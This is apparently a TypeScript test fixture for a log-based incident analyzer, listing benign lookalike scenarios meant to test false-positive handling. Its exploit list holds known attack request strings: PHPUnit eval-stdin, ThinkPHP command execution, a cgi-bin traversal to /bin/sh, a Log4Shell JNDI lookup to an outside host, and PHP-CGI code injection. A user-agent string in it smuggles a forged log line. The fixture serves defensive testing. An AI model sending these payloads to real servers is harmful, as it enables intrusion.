/** More traps of the web, databases, schedulers and brokers: requests that did nothing, and work of the owner. */
import { expect } from 'bun:test';
import { flink } from '../../src/formats/log/services/flink.ts';
import { jupyter } from '../../src/formats/log/services/jupyter.ts';
import { salt } from '../../src/formats/log/services/salt.ts';
import { left, miner, service } from '../../src/incident/incident.fixture.ts';
import { admin, attacker, later, logged, nginx, visitors, web } from './lines.fixture.ts';
import type { Scenario } from './scenario.ts';
import { bySshAsRoot, days, dropped, throughSsh } from './shared.fixture.ts';

/** As random as identities are. */
const identities = days.map((_, index) => {
  const word = ((index + 1) * 0x9e37_79b1 + 0xabcd_ef01) >>> 0;
  return `${word.toString(16).padStart(8, '0')}-0a1b-4c3d-8e5f-0a1b2c3d4e5f`;
});
const exploits = [
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/index.php?s=/index/%5Cthink%5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id',
  '/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh',
  '/?a=%24%7Bjndi:ldap://203.0.113.66/a%7D',
  '/wls-wsat/CoordinatorPortType',
  '/%24%7B%40java.lang.Runtime%40getRuntime%28%29%7D/',
  '/functionRouter',
  '/hello.php?%ADd+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input',
];
const byWeb = {
  files: [left('/tmp/.x/kdev', '2024-03-10 02:31:40', 'www-data')],
  miners: [miner('2024-03-10 02:32:00', 'www-data')],
};

export const lookalikesServed: readonly Scenario[] = [
  // Web
  {
    name: 'web: scans for all there is, answered with 404, 403 and 301, minutes before the first file',
    looksLike: 'web-exploit',
    events: web(
      visitors('2024-03-09 00:00:00', 600),
      ...exploits.flatMap((path, index) =>
        [404, 403, 301].map((status) =>
          nginx(later('2024-03-10 02:31:00', index), path, { method: 'POST', status, size: 153 }),
        ),
      ),
    ),
    scene: byWeb,
    ways: [],
    also: ({ excluded }) =>
      expect(excluded).toContainEqual({
        vector: 'web-exploit',
        service: 'phpunit',
        what: 'phpunit-eval-stdin',
        status: 404,
        count: 1,
      }),
  },
  {
    name: 'web: a firewall before the application blocks with 406, and with 200 and one page of its own',
    looksLike: 'web-exploit',
    events: web(
      visitors('2024-03-09 00:00:00', 600),
      ...exploits.map((path, index) =>
        nginx(later('2024-03-10 02:31:00', index), path, { method: 'POST', status: 406, size: 226 }),
      ),
      ...exploits.map((path, index) =>
        nginx(later('2024-03-10 02:31:20', index), path, { method: 'POST', status: 200, size: 5_177 }),
      ),
    ),
    scene: dropped,
    ways: [],
  },
  {
    name: 'web: a site with one page for all answers 200 to a scan, and the guesser is in as root',
    looksLike: 'web-exploit',
    events: [
      ...bySshAsRoot,
      ...web(
        nginx('2024-03-10 02:00:00', '/', { size: 612 }),
        ...exploits.map((path, index) => nginx(later('2024-03-10 02:31:00', index), path, { size: 612 })),
      ),
    ],
    scene: dropped,
    ways: [throughSsh],
  },
  {
    name: 'web: a penetration test got 200 and 500 a week before, and left nothing',
    looksLike: 'web-exploit',
    events: web(
      visitors('2024-03-01 00:00:00', 600),
      ...exploits.map((path, index) =>
        nginx(later('2024-03-03 10:00:00', index), path, {
          from: '198.51.100.250',
          status: index % 2 === 0 ? 200 : 500,
          size: 700 + index * 13,
          agent: 'sqlmap/1.7',
        }),
      ),
    ),
    scene: byWeb,
    ways: [],
  },
  {
    name: 'web: forms and hooks of a shop in Next.js, minutes before a guesser is in as root',
    looksLike: 'web-exploit',
    events: [
      ...bySshAsRoot,
      ...web(
        nginx('2024-03-10 02:00:00', '/_next/static/chunks/main.js'),
        nginx('2024-03-10 02:32:00', '/cart', {
          method: 'POST',
          status: 303,
          from: '198.51.100.9',
          referrer: 'https://shop.example/cart',
        }),
        nginx('2024-03-10 02:32:10', '/api/webhook', { method: 'POST', status: 500, from: '198.51.100.80' }),
        nginx('2024-03-10 02:32:20', '/login', { method: 'POST', status: 303, from: '198.51.100.81' }),
      ),
    ],
    scene: dropped,
    ways: [throughSsh],
  },
  {
    name: 'web: an agent and a search for the words of an exploit, by people who read of it',
    looksLike: 'web-exploit',
    events: web(
      nginx('2024-03-10 02:31:00', '/search?q=eval-stdin.php+phpunit'),
      nginx('2024-03-10 02:31:10', '/blog/what-is-jndi-ldap'),
      nginx('2024-03-10 02:31:20', '/articles/invokefunction-in-thinkphp', {
        referrer: 'https://search.example/?q=allow_url_include',
      }),
    ),
    scene: byWeb,
    ways: [],
  },
  {
    name: 'web: an agent with a line of another client within',
    looksLike: 'web-exploit',
    events: web(
      nginx('2024-03-10 02:31:00', '/', {
        status: 200,
        size: 900,
        agent: `x\\x22\\x0A${attacker} - - [10/Mar/2024:02:31:00 +0000] \\x22POST /cgi-bin/.%2e/.%2e/bin/sh HTTP/1.1\\x22 200 31 \\x22-\\x22 \\x22-`,
        from: '198.51.100.9',
      }),
    ),
    scene: byWeb,
    ways: [],
  },
  {
    name: 'web shell: pictures in the folder of uploads, and one that is posted to and answered 404',
    looksLike: 'web-shell',
    events: web(
      visitors('2024-03-08 00:00:00', 600),
      nginx('2024-03-10 02:30:00', '/uploads/cat.jpg'),
      nginx('2024-03-10 02:31:00', '/uploads/x.php', { method: 'POST', status: 404 }),
      nginx('2024-03-10 02:31:01', '/uploads/y.php', { method: 'POST', status: 403 }),
    ),
    scene: byWeb,
    ways: [],
  },
  {
    name: "web shell: the owner's administration, rarely asked for and by him alone",
    looksLike: 'web-shell',
    events: web(
      visitors('2024-03-08 00:00:00', 600),
      ...['/wp-admin/admin-ajax.php', '/phpmyadmin/index.php', '/wp-login.php'].map((path, index) =>
        nginx(later('2024-03-10 02:31:00', index), path, { method: 'POST', from: admin }),
      ),
    ),
    scene: byWeb,
    ways: [],
  },
  {
    name: 'web shell: a page of the application that all visitors post to',
    looksLike: 'web-shell',
    events: web(
      ...Array.from({ length: 40 }, (_, index) =>
        nginx(later('2024-03-10 02:00:00', index * 60), '/files/upload.php', {
          method: 'POST',
          from: `198.51.100.${index}`,
        }),
      ),
    ),
    scene: byWeb,
    ways: [],
  },
  // Databases, schedulers, brokers
  {
    name: 'PostgreSQL: the words of an attack in a text that is stored',
    looksLike: 'database-exec',
    events: [
      service('2024-03-10 02:31:00', 'postgresql', 'statement', {
        account: 'wiki',
        detail: "INSERT INTO pages VALUES ('How xp_cmdshell and lo_export are abused')",
      }),
    ],
    scene: dropped,
    ways: [],
  },
  {
    name: 'Flink and Jupyter: what their owner does every day',
    looksLike: 'scheduler',
    events: [
      ...logged(
        flink,
        '/opt/flink/log/flink.log',
        ...days.map(
          (day) =>
            `2024-03-${day} 02:31:01,000 INFO  org.apache.flink.runtime.dispatcher.StandaloneDispatcher [] - Received JobGraph submission 'nightly' (${day}1b2c3d0a1b2c3d0a1b2c3d0a1b2c3d).`,
        ),
      ),
      ...logged(
        jupyter,
        '/home/jovyan/jupyter.log',
        ...days.map(
          (day, index) => `[I 2024-03-${day} 02:31:00.000 ServerApp] Kernel started: ${identities[index]}`,
        ),
      ),
    ],
    scene: {
      files: [
        left('/tmp/.f', '2024-03-10 02:33:00', 'flink'),
        left('/tmp/.j', '2024-03-10 02:33:00', 'jovyan'),
      ],
    },
    ways: [],
  },
  {
    name: 'an application of its own with /api/jobs and /api/kernels, where neither Ray nor Jupyter is',
    looksLike: 'scheduler',
    events: [
      ...bySshAsRoot,
      ...web(
        nginx('2024-03-10 02:32:00', '/api/jobs/', { method: 'POST' }),
        nginx('2024-03-10 02:32:10', '/app/api/kernels', { method: 'POST', status: 201 }),
      ),
    ],
    scene: dropped,
    ways: [throughSsh],
  },
  {
    name: 'Salt: the master looks whether this minion is there, and applies the state of every night',
    looksLike: 'scheduler',
    events: logged(
      salt,
      '/var/log/salt/minion',
      '2024-03-10 02:31:00,123 [salt.minion      :1000][INFO    ][42] User root Executing command test.ping with jid 20240310023100123456',
      ...days.map(
        (day) =>
          `2024-03-${day} 02:31:30,123 [salt.minion      :1000][INFO    ][42] User root Executing command state.apply with jid 202403${day}023130123456`,
      ),
    ),
    scene: dropped,
    ways: [],
  },
  {
    name: 'Nacos: a user made and refused, and one that its owner makes by its console at noon',
    looksLike: 'broker',
    events: web(
      nginx('2024-03-10 02:31:00', '/nacos/v1/auth/users', {
        method: 'POST',
        status: 403,
        agent: 'Nacos-Server',
      }),
      nginx('2024-03-10 12:00:00', '/nacos/v1/auth/users', {
        method: 'POST',
        from: admin,
        agent: 'Mozilla/5.0',
      }),
    ),
    scene: { files: [left('/tmp/.n', '2024-03-10 02:33:00', 'nacos')] },
    ways: [],
  },
];
